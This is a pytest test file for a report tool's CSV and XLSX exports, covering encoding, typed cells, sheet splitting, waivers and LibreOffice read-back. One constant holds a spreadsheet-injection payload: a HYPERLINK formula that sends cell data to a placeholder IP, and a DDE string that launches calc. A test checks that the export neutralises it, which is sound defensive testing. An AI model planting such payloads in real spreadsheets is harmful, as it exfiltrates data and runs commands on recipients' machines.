"""CSV and XLSX of an example campaign, read back by the programs that people have."""

from __future__ import annotations

import csv
import itertools
import shutil
import subprocess
from collections.abc import Callable
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from profiles.language import LANGUAGES
from reports.bundle import Bundle
from reports.formats import FORMATS
from reports.tables import workbook
from reports.tables.sheets import COLUMNS
from reports.tables.sheets import sheets

HOSTILE = "=HYPERLINK(\"http://192.0.2.1/\"&A1)|'/C calc'!A0 https://192.0.2.1 _x0041_ @\u202e<b>"
CALC = Path("/usr/lib/libreoffice/program/libsclo.so")

Make = Callable[..., Bundle]


def written(bundle: Bundle, format: str, folder: Path, language: str = "zh") -> Path:
    out = folder / f"{language}{FORMATS[format].suffix}"
    FORMATS[format].write(bundle, out, language)
    return out


def read_csv(path: Path) -> list[list[str]]:
    content = path.read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.endswith(b"\r\n")
    assert content.count(b"\n") == content.count(b"\r\n")
    return list(csv.reader(content.decode("utf-8-sig").splitlines()))


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_line_of_csv_is_a_planned_item(make_bundle: Make, tmp_path: Path, language: str) -> None:
    bundle = make_bundle()
    head, *lines = read_csv(written(bundle, "csv", tmp_path, language))
    items = [result for result in bundle.campaign.results if not result.scope]
    assert len(head) == len(set(head)) == len(COLUMNS["results"])
    rows = [dict(zip(COLUMNS["results"], line, strict=True)) for line in lines]
    assert [row["item"] for row in rows] == [result.item for result in items]
    assert [row["verdict-code"] for row in rows] == [result.verdict for result in items]
    assert [row["value"] for row in rows] == ["" if it.value is None else repr(it.value) for it in items]
    sampled = rows[1]
    assert [sampled[name] for name in ("low", "high", "confidence", "op", "limit", "unit", "rule")] == [
        "91.24", "", "95.0", "ge", "90.0", "%", "R2",
    ]  # fmt: skip
    assert sampled["verdict"] == {"zh": "通过", "en": "pass"}[language]
    assert sampled["started"] == "2027-01-15T08:00:00Z"
    assert sampled["duration"] == "94.0"


def test_a_line_of_the_objects_is_a_failing_object(make_bundle: Make, tmp_path: Path) -> None:
    bundle = make_bundle(endpoints=40, failing=7)
    _, *lines = read_csv(written(bundle, "csv-objects", tmp_path))
    rows = [dict(zip(COLUMNS["failing"], line, strict=True)) for line in lines]
    failing = bundle.campaign.results[0].failing
    assert [row["object"] for row in rows] == [finding.target for finding in failing]
    assert rows[0]["name"].startswith("机械手")
    assert rows[0]["zone"] == "焊装一区"


def test_the_same_bundle_gives_the_same_bytes(make_bundle: Make, tmp_path: Path) -> None:
    bundle = make_bundle()
    for format in ("csv", "csv-objects", "xlsx"):
        first, again = (tmp_path / name for name in ("first", "again"))
        for folder in (first, again):
            folder.mkdir(exist_ok=True)
        one, other = written(bundle, format, first), written(Bundle(bundle.path), format, again)
        assert one.read_bytes() == other.read_bytes()


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_workbook_has_typed_cells_frozen_heads_and_filters(make_bundle: Make, tmp_path: Path, language: str) -> None:
    bundle = make_bundle(endpoints=40, failing=7)
    book = load_workbook(written(bundle, "xlsx", tmp_path, language))
    made = sheets(bundle, language)
    assert book.sheetnames == [sheet.title for sheet in made.values()]
    for sheet, page in zip(made.values(), book.worksheets, strict=True):
        rows = list(sheet.rows)
        assert [cell.value for cell in page[1]] == [title for title, _ in sheet.columns]
        assert page.max_row == len(rows) + 1
        assert page.freeze_panes == "B2"
        assert page.auto_filter.ref.endswith(str(len(rows) + 1))
        assert page.column_dimensions["A"].width >= 12
        for cells, row in zip(page.iter_rows(min_row=2, max_col=len(sheet.columns)), rows, strict=True):
            for cell, value in zip(cells, row, strict=True):
                assert cell.data_type == kind(value), (sheet.id, cell.coordinate, cell.value, value)
                if isinstance(value, int | float):
                    assert cell.value == pytest.approx(value, rel=1e-14)
                elif isinstance(value, datetime):
                    assert cell.value == value.replace(tzinfo=None)


def kind(value: Any) -> str:
    if value is None or value == "":
        return "n"
    return "d" if isinstance(value, datetime) else "n" if isinstance(value, int | float) else "s"


def test_names_are_never_formulas_links_or_numbers(make_bundle: Make, tmp_path: Path) -> None:
    bundle = make_bundle(hostile=HOSTILE, failing=2)
    path = written(bundle, "xlsx", tmp_path)
    book = load_workbook(path)
    shown = HOSTILE.replace("\u202e", "‹U+202E›")
    seen = 0
    for page in book.worksheets:
        assert not page._hyperlinks
        for cell in itertools.chain.from_iterable(page.iter_rows()):
            assert cell.data_type != "f"
            if isinstance(cell.value, str) and cell.value.startswith("="):
                seen += 1
                assert cell.quotePrefix
    assert seen > 20
    for name in CalamineWorkbook.from_path(str(path)).sheet_names:
        for row in CalamineWorkbook.from_path(str(path)).get_sheet_by_name(name).to_python():
            texts = [cell for cell in row if isinstance(cell, str) and "HYPERLINK" in cell]
            assert all(shown in text.replace("_x005F_x0041_", "_x0041_") for text in texts), texts
    for format in ("csv", "csv-objects"):
        for line in read_csv(written(bundle, format, tmp_path)):
            assert not [cell for cell in line if cell.lstrip().startswith(("=", "+", "@"))]


def test_more_rows_than_a_sheet_holds_go_on_in_the_next(
    make_bundle: Make, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(workbook, "MAX_ROWS", 10)
    bundle = make_bundle(endpoints=20)
    book = load_workbook(written(bundle, "xlsx", tmp_path, "en"))
    parts = [page for page in book.worksheets if page.title.startswith("Terminals")]
    assert [page.title for page in parts] == ["Terminals", "Terminals (2)", "Terminals (3)"]
    assert [page.max_row for page in parts] == [10, 10, 3]
    ids = [row[0].value for page in parts for row in page.iter_rows(min_row=2)]
    assert ids == [one.id for one in bundle.plant.endpoints]


def test_a_place_that_cannot_be_written_is_told(make_bundle: Make, tmp_path: Path) -> None:
    bundle = make_bundle()
    for format in ("csv", "xlsx"):
        with pytest.raises(OSError, match="No such file"):
            FORMATS[format].write(bundle, tmp_path / "absent" / "file", "zh")


@pytest.mark.browser
def test_libreoffice_reads_what_was_written(make_bundle: Make, tmp_path: Path) -> None:
    if shutil.which("soffice") is None or not CALC.is_file():
        pytest.skip("no LibreOffice Calc")
    bundle = make_bundle(hostile=HOSTILE, failing=2)
    for format in ("xlsx", "csv"):
        source = written(bundle, format, tmp_path)
        made = tmp_path / f"read-{format}"
        sheet = "2" if format == "xlsx" else "-1"
        subprocess.run(
            ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/office", "--convert-to",
             f"csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,{sheet}",
             "--outdir", str(made), str(source)], check=True, capture_output=True, timeout=120,
        )  # fmt: skip
        _, *rows = list(csv.reader(next(made.glob("*.csv")).read_text("utf-8").splitlines()))
        told = [dict(zip(COLUMNS["results"], row, strict=True)) for row in rows]
        assert [row["item"] for row in told] == [it.item for it in bundle.campaign.results if not it.scope]
        assert told[1]["value"] == "97.4359"
        assert not [cell for row in rows for cell in row if cell.startswith("#") or "Err:" in cell]


def test_waivers_and_earlier_attempts_stand_beside_the_verdict(make_bundle: Make, tmp_path: Path) -> None:
    bundle = make_bundle()
    (bundle.path / "waivers.yaml").write_text(
        "format: plantproof-waivers/1\nwaivers:\n  - {id: NET-RCH-E, justification: 等待备件到货后再整改, owner: 李工,"
        " approver: 王经理, expires: 2027-03-31}\n"
    )
    for language, words in (("zh", "已豁免"), ("en", "waived")):
        _, *lines = read_csv(written(Bundle(bundle.path), "csv", tmp_path, language))
        rows = {row["item"]: row for row in (dict(zip(COLUMNS["results"], line, strict=True)) for line in lines)}
        told = rows["NET-RCH-E"]["waivers"]
        assert all(part in told for part in (words, "王经理", "2027-03-31"))
        assert rows["NET-RCH-E"]["verdict-code"] == "fail"
        assert not rows["NET-RCH-S"]["waivers"]
        assert rows["NET-RCH-E"]["attempts"] == "2"
